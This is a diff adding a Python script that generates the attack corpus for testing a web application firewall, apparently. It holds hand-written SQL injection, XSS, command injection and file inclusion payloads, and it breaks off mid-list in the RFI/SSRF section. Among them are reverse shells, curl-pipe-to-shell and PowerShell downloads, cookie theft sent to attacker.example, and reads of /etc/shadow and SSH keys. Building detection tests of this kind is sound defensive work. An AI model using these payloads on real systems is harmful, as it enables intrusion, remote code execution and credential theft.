@@ -1,0 +1,845 @@
+#!/usr/bin/env python3
+"""The attack half of the WAF corpus: one JSON Lines file per category.
+
+Every payload below was written by hand for this corpus, one line each, with
+the place it is sent in (query, form, JSON, multipart, cookie, header, path)
+and, for the evasion cases, the encoding chosen for it. This script only
+serialises them into the `yunshou-waf inspect` input format; it draws no
+random numbers, so its output is the same on every run.
+
+    python3 tests/corpus/waf/gen/attacks.py [OUTDIR]   (default: tests/corpus/waf)
+"""
+import json
+import os
+import sys
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from reqlib import (dbl, enc, form_enc, get, headers, hexall, multipart_body,  # noqa: E402
+                    overlong, post_form, post_json, post_multipart, qs, req, send_json, uenc,
+                    write_jsonl)
+
+OUT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+
+_ua = [0]
+
+
+def ua():
+    """Rotate the browser User-Agent so attacks do not all look alike."""
+    _ua[0] += 1
+    return _ua[0]
+
+
+def Q(path, name, payload, others=(), e=enc, host=None, method="GET"):
+    """payload in query argument `name`, encoded with e (raw string if e is None)."""
+    parts = [enc(k) + "=" + enc(v) for k, v in others]
+    parts.append(enc(name) + "=" + (payload if e is None else e(payload)))
+    r = get(path, "&".join(parts), ua=ua(), host=host)
+    r["method"] = method
+    return r
+
+
+def RQ(path, rawquery, host=None):
+    """A query string written out by hand, already encoded."""
+    return get(path, rawquery, ua=ua(), host=host)
+
+
+def F(path, name, payload, others=(), e=form_enc):
+    body = "&".join([form_enc(k) + "=" + form_enc(v) for k, v in others] +
+                    [form_enc(name) + "=" + e(payload)])
+    return post_form(path, body, ua=ua())
+
+
+def J(path, obj, method="POST", raw=None):
+    return send_json(method, path, obj, raw=raw, ua=ua())
+
+
+def M(path, parts, **kw):
+    return post_multipart(path, parts, ua=ua(), **kw)
+
+
+def C(path, cookie, query=""):
+    return get(path, query, ua=ua(), extra={"Cookie": cookie})
+
+
+def H(path, name, value, query=""):
+    if name == "User-Agent":
+        return get(path, query, ua=value)
+    return get(path, query, ua=ua(), extra={name: value})
+
+
+def P(rawpath, query=""):
+    return get(rawpath, query, ua=ua())
+
+
+def XML(path, body, ctype="application/xml", method="POST"):
+    h = headers(ua=ua(), extra={"Content-Type": ctype}, accept="application/xml, text/xml, */*")
+    h["Content-Length"] = str(len(body.encode()))
+    return req(method, path, "", h, body)
+
+
+# --------------------------------------------------------------------- SQLi
+def sqli():
+    pid = [("category", "laptops")]
+    return [
+        Q("/products", "id", "1' OR '1'='1"),
+        Q("/products", "id", "1' OR 1=1-- -", pid),
+        F("/login", "username", "admin'--", [("password", "whatever")]),
+        F("/login", "password", "' OR ''='", [("username", "admin")]),
+        Q("/article", "id", "7 OR 1=1"),
+        Q("/article", "id", "7) OR (1=1"),
+        Q("/item", "sku", "' UNION SELECT NULL,NULL,NULL--"),
+        Q("/item", "id", "-1 UNION ALL SELECT 1,2,group_concat(table_name) FROM information_schema.tables "
+          "WHERE table_schema=database()--"),
+        Q("/user", "uid", "1' AND SLEEP(5)#"),
+        Q("/user", "uid", "1 AND (SELECT 1 FROM (SELECT SLEEP(3))a)"),
+        Q("/report", "year", "2023'; WAITFOR DELAY '0:0:5'--"),
+        Q("/news", "id", "12; DROP TABLE users--"),
+        Q("/news", "id", "12' AND extractvalue(1,concat(0x7e,(select user()),0x7e))-- "),
+        F("/profile/update", "nickname", "x' AND updatexml(null,concat(0x3a,version()),null)-- -"),
+        Q("/invoice", "no", "1 AND 1=CONVERT(int,(SELECT @@version))"),
+        F("/search", "q", "' OR 1=1 LIMIT 1 OFFSET 0 #"),
+        Q("/catalog", "cat", "3' ORDER BY 10-- -"),
+        Q("/catalog", "cat", "3 GROUP BY 1,2,3 HAVING 1=1--"),
+        Q("/reset", "token", "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--"),
+        Q("/api/v2/orders", "customer", "5; SELECT pg_sleep(4)--"),
+        Q("/api/v2/orders", "customer", "5' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--"),
+        Q("/hr/employee", "dept", "' AND 1=(SELECT COUNT(*) FROM all_users)--"),
+        Q("/hr/employee", "dept", "' UNION SELECT banner,NULL FROM v$version--"),
+        Q("/stats", "day", "1 AND BENCHMARK(5000000,MD5(1))"),
+        Q("/download", "doc", "x' AND 1=0 UNION SELECT load_file('/etc/passwd')-- "),
+        F("/comment", "author", "' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE "
+          "'/var/www/html/s.php'-- "),
+        Q("/admin/users", "id", "1;EXEC xp_cmdshell('whoami')--"),
+        Q("/admin/users", "id", "1'; exec master..xp_dirtree '\\\\attacker.example\\x'--"),
+        Q("/shop", "pid", "1' AnD 1=1 uNiOn SeLeCt 1,2-- "),
+        Q("/shop", "pid", "1/**/UNION/**/SELECT/**/user,pass/**/FROM/**/admin"),
+        Q("/shop", "pid", "1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -"),
+        RQ("/shop", "pid=1%27%0aunion%0aselect%0a1,2--%20"),
+        F("/login", "username", "jdoe' OR 'a'='a", [("password", "x")]),
+        Q("/directory", "name", "' OR 'x'LIKE'x"),
+        Q("/directory", "name", "smith' OR 2>1-- "),
+        F("/api/login", "user", "' or true--", [("pass", "1")]),
+        F("/api/login", "user", '" OR ""="', [("pass", "1")]),
+        Q("/lookup", "code", '") OR ("1"="1'),
+        Q("/lookup", "code", "1' AND 'abc'=CONCAT('a','b','c')-- "),
+        Q("/lookup", "code", "'||(SELECT 'a' FROM dual)||'"),
+        Q("/mssql/list", "q", "' + (SELECT TOP 1 name FROM sysobjects) + '"),
+        F("/wp-login.php", "log", "admin' #", [("pwd", "test"), ("wp-submit", "Log In")]),
+        Q("/members", "u", "' OR username IS NOT NULL OR username = '"),
+        Q("/members", "id", "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),CHAR(33),FLOOR(RAND(0)*2))x "
+          "FROM INFORMATION_SCHEMA.TABLES GROUP BY x)"),
+        Q("/members", "id", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
+        Q("/goods", "id", "1' AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe"),
+        Q("/goods", "id", "1 PROCEDURE ANALYSE(EXTRACTVALUE(9627,CONCAT(0x5c,version())),1)"),
+        Q("/erp/po", "id", "1';SELECT DBMS_PIPE.RECEIVE_MESSAGE('a',5) FROM dual-- "),
+        Q("/forum/thread", "tid", "1 and 1 in (select min(name) from sysobjects where xtype='U')"),
+        F("/admin/login.asp", "user", "' HAVING 1=1--", [("pass", "a")]),
+        Q("/search", "kw", "%' AND 1=1 AND '%'='"),
+        Q("/book", "isbn", "1' and substr(version(),1,1)='5"),
+        Q("/book", "isbn", "1 UNION SELECT 1,@@datadir,3"),
+        Q("/notes", "id", "' UNION SELECT sql FROM sqlite_master--"),
+        Q("/notes", "id", "1 AND 1=(SELECT 1 FROM pg_catalog.pg_tables LIMIT 1)"),
+        F("/feedback", "email", "a@b.c'; INSERT INTO users(username,password,role) VALUES('eve','x','admin')--"),
+        F("/feedback", "email", "a@b.c'; UPDATE users SET role='admin' WHERE username='eve'--"),
+        Q("/export", "id", "1; SHUTDOWN--"),
+        Q("/export", "id", "1 AND IF(1=1,SLEEP(5),0)"),
+        Q("/api/item", "id", "(select(0)from(select(sleep(6)))v)/*'+(select(0)from(select(sleep(6)))v)+'\"+"
+          "(select(0)from(select(sleep(6)))v)+\"*/"),
+        Q("/list", "sort", "(CASE WHEN (1=1) THEN id ELSE name END)"),
+        Q("/list", "order", "name ASC,(SELECT 1 FROM users WHERE SLEEP(3))"),
+        Q("/list", "id", "1 && 1=1 && 'a'='a"),
+        Q("/list", "id", "1' || 1=1 #"),
+        F("/login", "username", "0x61646d696e' OR 1=1#", [("password", "p")]),
+        Q("/ticket", "id", "1 UNION SELECT CHAR(117,115,101,114),2--"),
+        Q("/ticket", "id", "-1' UNION SELECT 1,CONCAT_WS(0x3a,user,password),3 FROM mysql.user-- -"),
+        Q("/ticket", "id", "1'=sleep(5)='1"),
+        Q("/vote", "poll", "1' or 1 -- -"),
+        RQ("/vote", "poll=1%27+or+%271%27%3D%271"),
+        # evasions: encodings
+        Q("/products", "id", "1' OR '1'='1", e=hexall),
+        Q("/products", "id", "1' or 1=1--", e=dbl),
+        Q("/products", "id", "-1' union select user(),2--", e=dbl),
+        Q("/products", "id", "1' OR 1=1--", e=uenc),
+        Q("/products", "id", "' union select password from users--", e=uenc),
+        Q("/products", "id", "1' OR 1=1-- ", e=overlong),
+        F("/guestbook", "name", "&#39; or 1=1-- ", e=form_enc),
+        RQ("/products", "id=1%27%09or%09%271%27%3d%271"),
+        RQ("/products", "id=1%27%0bor%0b1%3d1--%0b"),
+        RQ("/products", "id=1%27%0d%0aUNION%0d%0aSELECT%0d%0anull,version()--"),
+        Q("/products", "id", "1'\tUNION\tSELECT\tusername,\tpassword\tFROM\taccounts--"),
+        Q("/products", "id", "1 UnIoN/**/aLl/**/sElEcT 1,tAbLe_NaMe fRoM InFoRmAtIoN_sChEmA.tAbLeS"),
+        Q("/products", "id", "1 /*!UNION*/ /*!SELECT*/ 1,2"),
+        Q("/products", "id", "1 union distinctrow select 1,2"),
+        # JSON bodies
+        J("/api/v1/users/search", {"filter": "status = 'active' OR 1=1", "page": 1}),
+        J("/api/v1/users/get", {"id": "1 UNION SELECT password FROM users", "fields": ["name"]}),
+        J("/api/v1/orders/list", {"sort": "created_at; DROP TABLE orders", "limit": 20}),
+        J("/graphql", {"query": "{ user(id: \"1' OR '1'='1\") { name email } }"}),
+        J("/api/v1/login", None, raw='{"username":"admin\\u0027 or \\u00271\\u0027=\\u00271","password":"x"}'),
+        J("/api/v1/report", {"from": "2024-01-01' AND SLEEP(5) AND '1'='1", "to": "2024-02-01"}),
+        J("/api/v1/products", {"q": "phone", "category_id": "2 AND 1=(SELECT 1 FROM users WHERE "
+                               "username='admin' AND SUBSTRING(password,1,1)='a')"}, method="PUT"),
+        J("/api/v1/coupons/apply", {"code": "SAVE10' UNION SELECT code,discount FROM coupons--"}),
+        # cookies, headers, path
+        C("/home", "session_lang=en' AND 1=1--; theme=dark"),
+        C("/account", "uid=1 UNION SELECT username,password FROM admin; _ga=GA1.2.11.22"),
+        C("/cart", "cart_id=8842' AND (SELECT 5 FROM (SELECT SLEEP(5))x)-- "),
+        H("/", "X-Forwarded-For", "127.0.0.1' AND SLEEP(5)#"),
+        H("/", "User-Agent", "Mozilla/5.0' or 1=1--"),
+        H("/news", "Referer", "https://shop.example.com/?id=1'+union+select+1,2,3--"),
+        H("/api/v1/me", "X-User-Id", "1 OR 1=1"),
+        P("/api/products/1%20OR%201%3D1"),
+        P("/news/12%27%20and%20%271%27%3D%271"),
+        P("/catalog/3%20UNION%20SELECT%20username,password%20FROM%20users--"),
+        M("/comments/new", [("article", "44"), ("comment", "x'); DROP TABLE comments;--")]),
+        M("/signup", [("username", "admin'/*"), ("password", "Passw0rd!"), ("email", "a@example.com")]),
+        XML("/soap/customer", '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/'
+            'soap/envelope/"><soap:Body><GetCustomer><id>1 OR 1=1</id></GetCustomer></soap:Body>'
+            '</soap:Envelope>', ctype="text/xml"),
+        Q("/data", "id", "1 AND ORD(MID((SELECT IFNULL(CAST(schema_name AS NCHAR),0x20) FROM "
+          "INFORMATION_SCHEMA.SCHEMATA LIMIT 0,1),1,1))>64"),
+        Q("/data", "id", "1' AND GTID_SUBSET(CONCAT(0x71,(SELECT version()),0x71),1)-- "),
+        Q("/data", "id", "';declare @q varchar(99);set @q='\\\\attacker.example\\a'; "
+          "exec master.dbo.xp_dirtree @q;--"),
+        Q("/data", "id", "1 AND 7507=CAST((CHR(113)||CHR(120))||(SELECT version())::text AS NUMERIC)"),
+        Q("/data", "id", "1') AND 1=1 AND ('a'='a"),
+        Q("/data", "id", '1")) OR 1=1--'),
+        Q("/login/check", "u", "' OR EXISTS(SELECT * FROM users WHERE username='admin' AND password LIKE 'a%')--"),
+        Q("/data", "id", "1 AnD SlEeP(5)"),
+        Q("/data", "id", "1 and (select substring(@@version,1,1))='5'"),
+        Q("/data", "id", "1' UNION SELECT NULL,table_name FROM information_schema.columns WHERE "
+          "column_name LIKE '%pass%'--"),
+        F("/member/login", "username", "admin' OR '1'='1'-- ", [("password", "x"), ("remember", "1")]),
+        Q("/shop/search", "keyword", "%' UNION SELECT email,password FROM customers WHERE '%'='"),
+        Q("/pg", "id", "1;SELECT/**/CASE/**/WHEN/**/(1=1)/**/THEN/**/pg_sleep(5)/**/END"),
+        F("/login", "username", "' OR 'adm'||'in'='admin", [("password", "x")]),
+        Q("/time", "t", "1 XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR 1"),
+        Q("/time", "t", '-1" OR 3*2=6 AND 000111=000111 --'),
+        H("/page", "Referer", "if(now()=sysdate(),sleep(9),0)"),
+        Q("/oracle", "id", "1'||UTL_INADDR.GET_HOST_ADDRESS('attacker.example')||'"),
+        Q("/catalog", "cat", "3 AND 'x'='x' /*"),
+        Q("/catalog", "brand", "Acme' AND 1=2 UNION SELECT 1,concat(login,0x3a,pass),3 FROM staff-- -"),
+        C("/dashboard", "remember_me=YWRtaW4%3D; user_id=5%27%20or%20%27x%27%3D%27x"),
+        M("/upload/meta", [("title", "holiday"), ("album_id", "3 UNION SELECT 1,2,3,4--")]),
+        J("/api/v1/users", {"email": "x@example.com'); DELETE FROM users; --", "name": "Li Lei"}, method="PATCH"),
+    ]
+
+
+# ---------------------------------------------------------------------- XSS
+SVG_XSS = ('<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
+           'height="10"><rect width="10" height="10" fill="red"/><script type="text/javascript">'
+           'alert(document.domain)</script></svg>\n')
+
+
+def xss():
+    return [
+        Q("/search", "q", "<script>alert(1)</script>"),
+        Q("/search", "q", "<img src=x onerror=alert(document.cookie)>"),
+        Q("/search", "q", "<svg onload=alert(1)>"),
+        Q("/search", "q", "<svg/onload=confirm`1`>"),
+        Q("/search", "q", "\"><script>fetch('https://attacker.example/?c='+document.cookie)</script>"),
+        Q("/profile", "name", "'><img src=1 onerror=prompt(1)>"),
+        Q("/redirect", "to", "javascript:alert(1)"),
+        F("/comment", "body", '<a href="javascript:alert(document.domain)">click</a>', [("post", "12")]),
+        F("/comment", "body", "<body onload=alert('x')>", [("post", "12")]),
+        F("/comment", "body", '<iframe src="javascript:alert(1)"></iframe>', [("post", "13")]),
+        F("/comment", "body", '<iframe srcdoc="<script>alert(1)</script>">', [("post", "13")]),
+        Q("/wiki", "title", "<details open ontoggle=alert(1)>"),
+        Q("/wiki", "title", "<input autofocus onfocus=alert(1)>"),
+        Q("/wiki", "title", "<marquee onstart=alert(1)>hi</marquee>"),
+        Q("/wiki", "title", '<video><source onerror="alert(1)"></video>'),
+        Q("/wiki", "title", "<audio src=x onerror=alert(1)>"),
+        F("/post", "content", '<object data="javascript:alert(1)">'),
+        F("/post", "content", '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
+        F("/post", "content", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+        Q("/search", "q", "<ScRiPt>alert(1)</sCrIpT>"),
+        Q("/search", "q", "<scr<script>ipt>alert(1)</script>"),
+        Q("/search", "q", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
+        F("/bio", "text", '<a href="&#106;avascript:alert(1)">me</a>'),
+        F("/bio", "text", '<a href="jav&#x09;ascript:alert(1)">me</a>'),
+        F("/bio", "text", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
+        Q("/page", "x", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+        F("/theme", "css", '<div style="background:url(javascript:alert(1))">x</div>'),
+        F("/theme", "head", '<link rel=stylesheet href="javascript:alert(1)">'),
+        F("/theme", "head", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
+        Q("/page", "x", '<form action="javascript:alert(1)"><input type=submit>'),
+        Q("/page", "x", "<button formaction=javascript:alert(1)>x</button>"),
+        Q("/js/track", "ref", "\";alert(1);//"),
+        Q("/js/track", "ref", "'-alert(1)-'"),
+        Q("/page", "msg", "</script><script>alert(1)</script>"),
+        Q("/app", "name", "{{constructor.constructor('alert(1)')()}}"),
+        Q("/page", "x", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
+        Q("/page", "x", "<svg><script>alert&#40;1&#41;</script>"),
+        Q("/search", "q", "<script>alert(1)</script>", e=dbl),
+        Q("/search", "q", "<img src=x onerror=alert(1)>", e=dbl),
+        Q("/search", "q", "<script>alert(1)</script>", e=uenc),
+        Q("/search", "q", "<svg onload=alert(1)>", e=overlong),
+        Q("/search", "q", "<script>alert(1)</script>", e=hexall),
+        Q("/page", "x", "<img src=x onerror=window['al'+'ert'](1)>"),
+        Q("/page", "x", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
+        Q("/page", "x", "<svg onload=setTimeout('ale'+'rt(1)')>"),
+        F("/msg", "text", "<x onclick=alert(1)>click me</x>"),
+        F("/msg", "text", '<div onmouseover="alert(1)">hover</div>'),
+        F("/msg", "text", "<body onpageshow=alert(1)>"),
+        Q("/page", "x", "<img/src/onerror=alert(1)>"),
+        Q("/page", "x", "<img\tsrc=x\tonerror=alert(1)>"),
+        Q("/page", "x", "<img src=x onerror\n=alert(1)>"),
+        Q("/page", "x", "<script src=//attacker.example/x.js></script>"),
+        Q("/page", "x", '<script src="data:,alert(1)"></script>'),
+        F("/settings", "footer", '<base href="https://attacker.example/">'),
+        F("/settings", "footer", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>'),
+        Q("/page", "x", "<isindex type=image src=1 onerror=alert(1)>"),
+        Q("/page", "x", '<table background="javascript:alert(1)">'),
+        Q("/page", "x", "<keygen autofocus onfocus=alert(1)>"),
+        Q("/page", "x", "<select autofocus onfocus=alert(1)>"),
+        Q("/page", "x", "<textarea autofocus onfocus=alert(1)>"),
+        Q("/profile", "name", '"onmouseover="alert(1)'),
+        Q("/profile", "name", '" autofocus onfocus=alert(document.domain) x="'),
+        Q("/profile", "avatar", "x.png' onerror='alert(1)"),
+        Q("/page", "x", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+"
+          "/[*/[]/+alert(1)//'>"),
+        Q("/page", "x", "<img src=x onerror=import('//attacker.example/m.js')>"),
+        Q("/page", "x", "<svg><foreignObject><iframe src=javascript:alert(1)>"),
+        Q("/preview", "url", "data:text/html,<script>alert(1)</script>"),
+        Q("/preview", "url", "vbscript:msgbox(1)"),
+        F("/link", "href", '<a href=" javascript:alert(1)">x</a>'),
+        Q("/page", "x", "<img src=x onerror=\\u0061lert(1)>"),
+        F("/review", "text", "Nice!<script>document.location='https://attacker.example/c?'+document.cookie</script>"),
+        F("/review", "text", '<script>new Image().src="//attacker.example/?"+document.cookie</script>'),
+        Q("/page", "x", "<svg><set attributeName=href to=javascript:alert(1)>"),
+        Q("/page", "x", "<img src=1 onerror=alert`1`>"),
+        Q("/page", "x", "<iframe onload=alert(1)>"),
+        Q("/page", "x", '<object type="text/x-scriptlet" data="https://attacker.example/x.sct"></object>'),
+        Q("/page", "x", "<xss id=x tabindex=1 onfocusin=alert(1)></xss>"),
+        F("/post", "content", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
+        F("/post", "content", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
+        F("/post", "content", "<img src=\"javascript:alert('XSS')\">"),
+        F("/post", "content", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
+        F("/post", "content", '<div style="width:expression(alert(1))">'),
+        F("/post", "content", "<img src=x onerror=fetch('/api/me').then(r=>r.text()).then(t=>navigator."
+          "sendBeacon('//attacker.example',t))>"),
+        J("/api/v1/comments", {"post_id": 991, "comment": "<script>alert(1)</script>"}),
+        J("/api/v1/profile", None, raw='{"name":"\\u003cimg src=x onerror=alert(1)\\u003e","city":"Shanghai"}'),
+        J("/api/v1/issues", {"title": "bug", "body": "see [click](javascript:alert(document.cookie))"}),
+        J("/api/v1/messages", {"to": 5, "html": "<svg onload=alert(1)>"}, method="PUT"),
+        C("/", "theme=<script>alert(1)</script>; lang=zh-CN"),
+        C("/", "last_search=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
+        H("/", "Referer", 'https://shop.example.com/"><script>alert(1)</script>'),
+        H("/", "User-Agent", "<script>alert(1)</script>"),
+        H("/", "X-Forwarded-Host", '"><svg onload=alert(1)>'),
+        P("/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        P("/profile/%22%3E%3Csvg%20onload%3Dalert(1)%3E"),
+        M("/account/bio", [("nickname", "xx"), ("bio", "<img src=x onerror=alert(1)>")]),
+        M("/upload", [("album", "1"), ("file", "GIF89a", "<svg onload=alert(1)>.gif", "image/gif")]),
+        M("/upload", [("album", "1"), ("file", SVG_XSS, "logo.svg", "image/svg+xml")]),
+        Q("/page", "x", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
+        Q("/page", "x", "<svg onload=alert&lpar;1&rpar;>"),
+        Q("/page", "x", '<a href="javas&#99;ript:alert(1)">x</a>'),
+        Q("/page", "x", '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C%2Fscript%3E">'),
+        F("/contact", "message", "</textarea><script>alert(1)</script>"),
+        Q("/page", "title", "</title><script>alert(1)</script>"),
+        Q("/page", "x", "<img src=x onerror=self[`al`+`ert`](1)>"),
+        Q("/page", "x", "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"),
+        Q("/page", "x", "<svg><script xlink:href=data:,alert(1) />"),
+        Q("/page", "x", "<embed src=javascript:alert(1)>"),
+        Q("/page", "x", "<a onmouseover=alert(1)>x</a>"),
+        Q("/callback", "jsonp", "alert(document.cookie);//"),
+    ]
+
+
+# --------------------------------------------------------------------- cmdi
+def cmdi():
+    h = [("count", "4")]
+    return [
+        Q("/tools/ping", "host", "127.0.0.1; cat /etc/passwd", h),
+        Q("/tools/ping", "host", "127.0.0.1 | id", h),
+        Q("/tools/ping", "host", "8.8.8.8 && whoami", h),
+        Q("/tools/ping", "host", "`id`", h),
+        Q("/tools/ping", "host", "$(id)", h),
+        F("/tools/dns", "domain", "example.com; ls -la /"),
+        F("/tools/dns", "domain", "example.com || ping -c 3 attacker.example"),
+        F("/tools/trace", "target", "127.0.0.1; curl http://attacker.example/s.sh | sh"),
+        F("/tools/trace", "target", "127.0.0.1 && wget -qO- http://attacker.example/x | bash"),
+        F("/tools/trace", "target", "8.8.8.8|nc -e /bin/sh attacker.example 4444"),
+        Q("/cgi-bin/status", "dev", "eth0; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
+        Q("/convert", "file", "a.png $(curl -s attacker.example/p|sh)"),
+        Q("/convert", "file", "a.png;{cat,/etc/passwd}"),
+        Q("/convert", "file", "a.png;cat$IFS/etc/passwd"),
+        Q("/convert", "file", "a.png;c'a't /etc/shadow"),
+        Q("/convert", "file", "a.png;/???/c?t /etc/passwd"),
+        Q("/convert", "file", "a.png; echo aWQ7dW5hbWUgLWE= | base64 -d | sh"),
+        RQ("/tools/ping", "host=127.0.0.1%0aid"),
+        F("/win/tools", "path", "C:\\temp | powershell -nop -c \"IEX(New-Object Net.WebClient)."
+          "DownloadString('http://attacker.example/a.ps1')\""),
+        F("/win/tools", "path", "C:\\temp & net user hacker P@ss123 /add"),
+        F("/win/tools", "path", "x | type C:\\Windows\\win.ini"),
+        F("/win/tools", "path", "x & dir c:\\"),
+        Q("/diag", "ip", "1.1.1.1; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\","
+          "4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'"),
+        Q("/diag", "ip", "1.1.1.1; perl -e 'use Socket;$i=\"203.0.113.5\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
+          "getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'"),
+        Q("/diag", "ip", "1.1.1.1; rm -rf /tmp/*;"),
+        Q("/diag", "ip", "`uname -a`"),
+        Q("/diag", "ip", "1.1.1.1; sleep 10"),
+        J("/api/v1/monitor/check", {"host": "example.com; nslookup $(whoami).attacker.example", "port": 443}),
+        J("/api/v1/backup", {"name": "nightly", "dest": "/backup/$(reboot)"}),
+        M("/files/convert", [("fmt", "pdf"), ("file", "hello", "report.pdf; id", "text/plain")]),
+        H("/cgi-bin/test.cgi", "User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
+        H("/cgi-bin/login.cgi", "Referer", "() { ignored;}; echo; /usr/bin/id"),
+        C("/status", "lang=zh`id`; sid=9f8e7d"),
+        Q("/tools/ping", "host", "127.0.0.1; chmod +x /tmp/x && /tmp/x"),
+        Q("/tools/ping", "host", "; id", e=dbl),
+        Q("/tools/ping", "host", "127.0.0.1;${IFS}id"),
+        Q("/tools/ping", "host", "127.0.0.1 || /bin/b?sh -c id"),
+        F("/tools/exec", "arg", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"),
+        F("/tools/exec", "arg", "x; echo '<?php system($_GET[0]);?>' > /var/www/html/x.php"),
+        F("/tools/exec", "arg", "x; crontab -l"),
+        RQ("/tools/ping", "host=8.8.8.8%0Acat%20/etc/passwd"),
+        Q("/tools/ping", "host", "a;$(printf '\\x69\\x64')"),
+        J("/api/render", {"tpl": "x", "helper": "require('child_process').execSync('cat /etc/passwd')"}),
+        F("/debug/eval", "code", "system('id');"),
+        Q("/tools/ping", "host", "127.0.0.1%0d%0awhoami", e=None),
+        Q("/tools/nslookup", "q", "example.com & certutil -urlcache -split -f http://attacker.example/x.exe x.exe"),
+        Q("/tools/ping", "host", "127.0.0.1;wget${IFS}http://attacker.example/m${IFS}-O${IFS}/tmp/m"),
+        Q("/tools/whois", "d", "example.com | tee /tmp/o; /bin/cat /etc/hosts"),
+        M("/admin/plugins", [("name", "x"), ("cmd", "ls; id; cat /etc/issue")]),
+        Q("/tools/ping", "host", "127.0.0.1 | i''d"),
+    ]
+
+
+# ---------------------------------------------------------------------- LFI
+def lfi():
+    return [
+        Q("/view", "file", "../../../../etc/passwd"),
+        Q("/view", "file", "..\\..\\..\\..\\windows\\win.ini"),
+        Q("/view", "file", "/etc/passwd"),
+        Q("/view", "file", "....//....//....//etc/passwd"),
+        RQ("/view", "file=..%2f..%2f..%2fetc%2fpasswd"),
+        RQ("/view", "file=%2e%2e%2f%2e%2e%2fetc%2fshadow"),
+        Q("/view", "file", "../../../etc/passwd", e=dbl),
+        RQ("/view", "file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
+        RQ("/view", "file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
+        RQ("/view", "file=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
+        RQ("/view", "file=../../../../etc/passwd%00.jpg"),
+        Q("/index.php", "page", "php://filter/convert.base64-encode/resource=../config.php"),
+        Q("/index.php", "page", "php://filter/read=string.rot13/resource=index.php"),
+        Q("/index.php", "page", "file:///etc/passwd"),
+        Q("/index.php", "page", "expect://id"),
+        Q("/index.php", "page", "zip://uploads/avatar.jpg#shell"),
+        Q("/index.php", "page", "phar://uploads/img.jpg/test.txt"),
+        Q("/index.php", "page", "/proc/self/environ"),
+        Q("/index.php", "page", "../../../../proc/self/cmdline"),
+        Q("/index.php", "page", "../../../var/log/apache2/access.log"),
+        P("/app/..;/..;/WEB-INF/web.xml"),
+        P("/static/..%2f..%2f..%2fetc/passwd"),
+        Q("/download", "name", "../../../../boot.ini"),
+        Q("/download", "name", "C:\\inetpub\\wwwroot\\web.config"),
+        Q("/download", "name", "..\\\\..\\\\..\\\\web.config"),
+        Q("/download", "name", "/var/www/../../etc/hosts"),
+        Q("/lang", "template", "../../../../../../etc/passwd"),
+        J("/api/v1/files/read", {"path": "../../../../root/.ssh/id_rsa"}),
+        J("/api/v1/export", {"format": "csv", "template": "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"}),
+        M("/upload", [("dir", "avatars"), ("file", "x", "../../../var/www/html/x.txt", "text/plain")]),
+        C("/", "lang=../../../../etc/passwd%00; sid=abc"),
+        P("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
+        P("/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd"),
+        F("/theme/load", "skin", "../../../../../etc/shadow"),
+        Q("/img", "src", "....\\/....\\/....\\/etc/passwd"),
+        Q("/view", "file", "/../../../../etc/group", e=uenc),
+        Q("/view", "file", "../../../etc/passwd", e=overlong),
+        Q("/view", "doc", "/etc/passwd", e=hexall),
+        P("/assets/%252e%252e/%252e%252e/%252e%252e/etc/passwd"),
+        Q("/include", "mod", "../../../../../../../../../../../usr/local/etc/php.ini"),
+        Q("/report", "f", "C:/Windows/System32/config/SAM"),
+        H("/", "X-Template", "../../../../etc/passwd"),
+    ]
+
+
+# ----------------------------------------------------------------- RFI/SSRF
+def rfi_ssrf():
+    return [
+        Q("/index.php", "page", "http://attacker.example/shell.txt?"),
+        RQ("/index.php", "include=https://attacker.example/c99.txt%00"),
+        Q("/index.php", "file", "ftp://attacker.example/x.php"),
